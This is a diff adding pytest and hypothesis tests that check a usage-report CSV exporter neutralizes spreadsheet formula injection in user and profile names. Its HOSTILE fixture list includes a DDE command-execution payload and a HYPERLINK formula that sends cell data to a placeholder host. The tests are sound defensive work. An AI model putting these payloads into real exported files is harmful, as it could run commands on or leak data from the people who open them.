@@ -4,6 +4,8 @@ window split in two adds up) checked with hypothesis."""
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import math
 from datetime import UTC, datetime, timedelta
@@ -16,6 +18,7 @@ from hubext._validation import ConfigError, KeyPath, errors_of
 from hubext.usage.model import HUB_ACCOUNT
 from hubext.usage.prices import UnitPrices, parse_price_table
 from hubext.usage.report import (
+    FORMULA_STARTS,
     Span,
     build_report,
     format_csv,
@@ -202,6 +205,75 @@ def test_formats_show_the_same_numbers():
     data = json.loads(format_json(report))
     assert [r["community"] for r in data["rows"]] == ["_hub", "ocean-lab"]
     assert data["total"]["server_seconds"] == 7200
+
+
+# -- CSV that a spreadsheet opens safely ----------------------------------------
+
+#: names an identity provider or a profile list may hold, as issue #19 found
+HOSTILE = [
+    "=2+3@uni",
+    "@sum(1+1)@uni",
+    "+cmd|' /C calc'!A0",
+    "'=1+1",
+    "-2+3",
+    "\t=1+1",
+    "\r=1+1",
+    '=HYPERLINK("http://x.example/?"&A1)',
+]
+
+
+def csv_rows(text: str) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(text)))
+
+
+@pytest.mark.parametrize("by", ["user", "profile"])
+def test_csv_neutralizes_cells_that_would_start_a_formula(by):
+    sessions = [
+        span(T0, T0 + H, user=name, profile=name, cpu_request=1) for name in HOSTILE
+    ] + [span(T0, T0 + H, user="ada", profile=None)]
+    rows = csv_rows(
+        format_csv(build_report(sessions, start=LO, end=HI, now=NOW, by=by))
+    )
+    labels = [row[0] for row in rows[1:-1]]
+    expected = {"'" + name for name in HOSTILE} | {"ada" if by == "user" else "'-"}
+    assert set(labels) == expected
+    for row in rows:
+        assert not row[0].startswith(FORMULA_STARTS)
+        for cell in row[1:]:
+            assert not cell.startswith(FORMULA_STARTS) or row is rows[0]
+
+
+def test_csv_numbers_stay_numbers_a_spreadsheet_adds_up():
+    # a negative request (a ledger written by hand) gives negative hours: a
+    # number, written as one, never made text
+    sessions = [
+        span(T0, T0 + H, user="a", cpu_request=-1.5),
+        span(T0, T0 + 2 * H, user="b", cpu_request=0.25),
+    ]
+    report = build_report(sessions, start=LO, end=HI, now=NOW, by="user")
+    header, a, b, total = csv_rows(format_csv(report))
+    cpu = header.index("cpu_hours")
+    assert (a[cpu], b[cpu], total[cpu]) == ("-1.500000", "0.500000", "-1.000000")
+    assert float(a[cpu]) + float(b[cpu]) == float(total[cpu])
+    assert [r[header.index("sessions")] for r in (a, b, total)] == ["1", "1", "2"]
+
+
+@settings(max_examples=200, deadline=None)
+@given(
+    names=st.lists(st.text(min_size=1, max_size=30), min_size=1, max_size=5),
+    by=st.sampled_from(["user", "profile"]),
+)
+def test_no_csv_cell_starts_a_formula_and_labels_come_back(names, by):
+    sessions = [
+        span(T0, T0 + H, user=name, profile=name, cpu_request=1) for name in names
+    ]
+    report = build_report(sessions, start=LO, end=HI, now=NOW, by=by)
+    rows = csv_rows(format_csv(report))
+    for row in rows[1:]:
+        assert not any(cell.startswith(FORMULA_STARTS) for cell in row), row
+    # nothing lost: one leading ' off gives every label back
+    labels = [row[0] for row in rows[1:-1]]
+    assert [label.removeprefix("'") for label in labels] == list(report.rows)
 
 
 # -- properties -------------------------------------------------------------
